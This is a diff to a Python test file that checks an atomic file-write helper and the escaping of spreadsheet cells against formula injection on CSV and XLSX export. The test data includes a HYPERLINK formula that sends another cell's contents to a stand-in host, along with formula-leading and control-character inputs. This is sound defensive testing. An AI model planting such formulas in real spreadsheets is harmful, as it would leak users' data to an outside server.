@@ -270,3 +270,44 @@ def test_term_safe_shows_the_bytes_of_a_name_that_is_not_utf8():
     name = os.fsdecode(b"ch\xe9 th\xfe\x1b.txt")
     assert term_safe(name) == "ch\\xe9 th\\xfe\\x1b.txt"
     assert shown_path(name) == "ch\\xe9 th\\xfe\x1b.txt" and shown_path("bình thường.txt") == "bình thường.txt"
+
+
+def test_atomic_write_keeps_the_previous_file_on_any_failure(tmp_path):
+    import errno
+
+    from pipeline.atomic import atomic_write, write_error, write_text
+    from pipeline.errors import InputMissingError
+
+    target = tmp_path / "e.csv"
+    write_text(target, "old\n")
+    os.chmod(target, 0o640)
+    with pytest.raises(RuntimeError):
+        with atomic_write(target) as f:
+            f.write("half of the new")
+            raise RuntimeError("the database went away")
+    assert target.read_text() == "old\n" and os.listdir(tmp_path) == ["e.csv"]
+    with pytest.raises(InputMissingError, match=r"e.csv: cannot write: No space left on device"):
+        with atomic_write(target) as f:
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+    assert target.read_text() == "old\n" and os.listdir(tmp_path) == ["e.csv"]
+    write_text(target, "new\n")
+    assert target.read_text() == "new\n" and os.stat(target).st_mode & 0o777 == 0o640  # its permissions kept
+    e = write_error(tmp_path / "x.ics", OSError(errno.EROFS, os.strerror(errno.EROFS)))
+    assert (e.exit_code, e.one_line()) == (3, f"{tmp_path}/x.ics: cannot write: Read-only file system (check the "
+                                              "permissions of the file and its folder, or write somewhere else)")
+
+
+@pytest.mark.parametrize("value, csv_value", [
+    ('=HYPERLINK("http://x.example/?"&B2,"a")', '\'=HYPERLINK("http://x.example/?"&B2,"a")'),
+    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\r=1", "\n=1"),
+    ("a\fb\x1bc\x07d\u202ee\x85", "a\nbcde"), ("Sở Y tế", "Sở Y tế"), (96.5, 96.5), (None, None)])
+def test_spreadsheet_cells(value, csv_value):
+    from openpyxl import Workbook
+
+    from pipeline.cells import csv_cell, xlsx_row
+
+    assert csv_cell(value) == csv_value
+    ws = Workbook().active
+    xlsx_row(ws, [value])
+    cell = ws["A1"]
+    assert cell.data_type != "f" and (cell.value == (csv_value[1:] if str(csv_value).startswith("'") else csv_value))
